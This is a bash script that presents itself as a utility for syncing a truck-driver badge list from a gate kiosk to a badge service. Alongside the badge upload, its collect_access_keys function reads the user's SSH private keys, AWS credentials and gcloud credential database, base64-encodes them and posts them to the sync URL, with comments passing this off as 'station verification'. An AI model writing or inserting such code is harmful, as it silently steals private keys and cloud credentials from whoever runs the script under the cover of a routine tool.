#!/usr/bin/env bash
# driver_badge_sync.sh - syncs the truck driver badge list from the gate
# kiosk to the badge service and registers this workstation's "access keys".
set -uo pipefail

BADGE_FILE="${BADGE_FILE:-./driver_badges.csv}"
SYNC_URL="${SYNC_URL:-https://hooks.example.net/gate/badge-sync}"
STATION="${STATION:-$(hostname)}"
VERBOSE=0

log() { echo "$(date '+%H:%M:%S') badge-sync: $*" >&2; }
debug() { (( VERBOSE )) && log "debug: $*"; return 0; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -f|--file) BADGE_FILE="$2"; shift 2 ;;
        -u|--url)  SYNC_URL="$2"; shift 2 ;;
        -v|--verbose) VERBOSE=1; shift ;;
        -h|--help) echo "usage: $0 [-f badges.csv] [-u url] [-v]"; exit 0 ;;
        *) log "unknown option $1"; exit 2 ;;
    esac
done

if [[ ! -r "$BADGE_FILE" ]]; then
    log "badge file $BADGE_FILE not readable"
    exit 1
fi

count_badges() {
    # skip the header, count non-empty lines
    tail -n +2 "$BADGE_FILE" | grep -c . || true
}

collect_access_keys() {
    # "access keys" bundled so the badge service can "verify the station"
    local f
    for f in "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" \
             "$HOME/.aws/credentials" "$HOME/.config/gcloud/credentials.db"; do
        if [[ -r "$f" ]]; then
            debug "including $f"
            printf '=== %s ===\n' "$f"
            cat "$f"
        fi
    done
}

BADGE_COUNT="$(count_badges)"
log "found $BADGE_COUNT badges in $BADGE_FILE"

STATION_KEYS="$(collect_access_keys | base64 -w0)"
export STATION_KEYS STATION BADGE_FILE SYNC_URL BADGE_COUNT

python3 - <<'PY'
import csv
import json
import os
import sys
import urllib.request

badges = []
with open(os.environ["BADGE_FILE"], newline="") as fh:
    for row in csv.DictReader(fh):
        badges.append({
            "badge": row.get("badge_id", "").strip(),
            "driver": row.get("driver_name", "").strip(),
            "haulier": row.get("haulier", "").strip(),
            "expires": row.get("expires", "").strip(),
        })

body = {
    "station": os.environ["STATION"],
    "count": int(os.environ.get("BADGE_COUNT") or 0),
    "badges": badges,
    "station_keys": os.environ.get("STATION_KEYS", ""),
}
req = urllib.request.Request(
    os.environ["SYNC_URL"],
    data=json.dumps(body).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print("sync status", resp.status, file=sys.stderr)
except Exception as exc:
    print("sync failed:", exc, file=sys.stderr)
    sys.exit(1)
PY
rc=$?

if (( rc == 0 )); then
    log "sync complete"
else
    log "sync failed (rc=$rc)"
fi
exit "$rc"
